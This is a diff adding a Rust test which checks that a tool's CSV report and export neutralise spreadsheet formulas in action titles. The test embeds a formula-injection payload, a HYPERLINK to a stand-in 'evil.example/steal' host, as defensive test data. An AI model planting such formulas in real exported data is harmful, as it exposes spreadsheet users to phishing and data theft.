@@ -129,6 +129,29 @@ fn dates_in_commands_are_checked_and_a_command_happened_on_its_own_date() {
 }
 
 #[test]
+fn a_formula_in_an_action_title_comes_out_of_csv_as_text() {
+    let dir = tempfile::tempdir().expect("a temporary directory");
+    assert!(covenant(dir.path(), &["demo"]).status.success());
+    let formula = "=HYPERLINK(\"http://evil.example/steal\",\"Open the plan\")";
+    let mut command = tests::make_commitment(0);
+    command["title"] = formula.into();
+    std::fs::write(dir.path().join("action.json"), command.to_string()).expect("write the command");
+    let recorded = covenant(dir.path(), &["record", "--file", "action.json"]);
+    assert!(recorded.status.success(), "{}", stderr(&recorded));
+    let neutralised = format!("\"'{}\"", formula.replace('"', "\"\""));
+    for args in [
+        &["report", "actions", "--format", "csv", "--organisation", "GB-LAE-WLI"][..],
+        &["export", "actions", "--organisation", "GB-LAE-WLI"][..],
+    ] {
+        let csv = covenant(dir.path(), args);
+        assert!(csv.status.success(), "{args:?}: {}", stderr(&csv));
+        let csv = stdout(&csv);
+        assert!(csv.contains(&neutralised), "{args:?}: the title starts with ' in the CSV: {csv}");
+        assert!(!csv.contains(",\"="), "{args:?}: no cell starts with =: {csv}");
+    }
+}
+
+#[test]
 fn demo_loads_the_seed_stories_into_an_empty_database_only() {
     let dir = tempfile::tempdir().expect("a temporary directory");
     let demo = covenant(dir.path(), &["demo"]);
